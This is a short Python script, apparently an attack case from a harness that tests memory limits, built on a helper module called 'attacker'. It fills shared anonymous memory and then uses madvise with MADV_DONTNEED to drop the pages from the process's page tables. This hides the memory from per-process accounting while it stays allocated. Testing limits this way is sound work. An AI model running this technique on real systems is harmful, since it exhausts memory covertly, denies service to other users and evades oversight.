"""Fills shared memory and takes it out of its page tables, so that no process shows it."""

import ctypes
import mmap
import os

import attacker

MADV_DONTNEED = 4


def grow(size: int) -> object:
    try:
        block = mmap.mmap(-1, size, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    except OSError as error:
        attacker.note(f"without a file {attacker.named(error.errno or 0)}")
        zero = os.open("/dev/zero", os.O_RDWR)
        block = mmap.mmap(zero, size, flags=mmap.MAP_SHARED)
        os.close(zero)
    attacker.touch(block)
    start = ctypes.addressof(ctypes.c_char.from_buffer(block))
    attacker.libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(size), MADV_DONTNEED)
    return block


attacker.play(lambda: attacker.hoard(grow))
